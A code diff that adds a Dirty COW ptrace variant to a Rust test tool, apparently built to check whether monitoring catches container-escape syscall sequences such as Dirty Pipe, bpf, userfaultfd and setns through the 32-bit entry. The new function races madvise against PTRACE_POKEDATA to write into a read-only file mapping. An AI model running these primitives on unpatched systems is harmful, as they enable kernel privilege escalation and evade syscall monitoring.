@@ -3,7 +3,7 @@
 //! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
-//! Usage: primitives <dirtycow FILE | dirtypipe FILE | procmem | pvwritev | ptrace PID |
+//! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE | procmem | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD>
 
 use std::{
@@ -248,6 +248,71 @@ fn finit_module() {
     println!("finit_module: {rc}");
 }
 
+/// Dirty COW through ptrace (the pokemon.c variant): a forked child discards the pages of a
+/// read-only private mapping of FILE from a thread while its main thread sits in a ptrace
+/// stop; the parent pokes the mapping with PTRACE_POKEDATA. No /proc/PID/mem is involved.
+fn dirtycow_ptrace(path: &str) {
+    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
+    let len = file.metadata().map(|m| m.len()).unwrap_or(0).max(1) as usize;
+    // SAFETY: a read-only private mapping of a file we opened; only madvise and ptrace touch it.
+    let map = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            len,
+            libc::PROT_READ,
+            libc::MAP_PRIVATE,
+            file.as_raw_fd(),
+            0,
+        )
+    };
+    if map == libc::MAP_FAILED {
+        fail("mmap");
+    }
+    let addr = map as usize;
+    // SAFETY: fork in a single-threaded process; the child only calls async-signal-safe
+    // functions and spawns its own thread after the fork.
+    let child = unsafe { libc::fork() };
+    if child < 0 {
+        fail("fork");
+    }
+    if child == 0 {
+        let discard = thread::spawn(move || {
+            for _ in 0..300 {
+                // SAFETY: our own mapping.
+                unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
+                thread::sleep(Duration::from_millis(1));
+            }
+        });
+        // SAFETY: plain ptrace/raise calls on ourselves.
+        unsafe {
+            libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
+            libc::raise(libc::SIGSTOP);
+        }
+        let _ = discard.join();
+        // SAFETY: leaving the forked child without running the parent's destructors.
+        unsafe { libc::_exit(0) };
+    }
+    let mut status = 0;
+    // SAFETY: waiting for our own child's ptrace stop.
+    unsafe { libc::waitpid(child, &mut status, libc::__WALL) };
+    let mut pokes = 0;
+    let deadline = Instant::now() + Duration::from_millis(300);
+    while Instant::now() < deadline {
+        // SAFETY: POKEDATA into the stopped tracee's private copy of the mapping.
+        let r = unsafe { libc::ptrace(libc::PTRACE_POKEDATA, child, addr, 0x4141_4141usize) };
+        if r == 0 {
+            pokes += 1;
+        }
+        thread::sleep(Duration::from_millis(1));
+    }
+    // SAFETY: ending our own tracee.
+    unsafe {
+        libc::kill(child, libc::SIGKILL);
+        libc::waitpid(child, &mut status, libc::__WALL);
+    }
+    println!("dirtycow-ptrace: {pokes} pokes");
+}
+
 /// setns(2) through the 32-bit syscall entry (`int 0x80` with the i386 number) from this
 /// 64-bit process, which the per-syscall tracepoints of x86-64 do not see; then exec `cmd` in
 /// the namespace reached, so the process makes an event there.
@@ -311,6 +376,7 @@ fn main() {
     match args.get(1).map(String::as_str) {
         Some("dirtycow") => dirtycow(&arg(2)),
         Some("dirtypipe") => dirtypipe(&arg(2)),
+        Some("dirtycow-ptrace") => dirtycow_ptrace(&arg(2)),
         Some("procmem") => write_child(false),
         Some("pvwritev") => write_child(true),
         Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
@@ -324,7 +390,7 @@ fn main() {
         Some("setns") => setns64(&arg(2), &arg(3)),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD>"
+                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD>"
             );
             exit(2);
         }
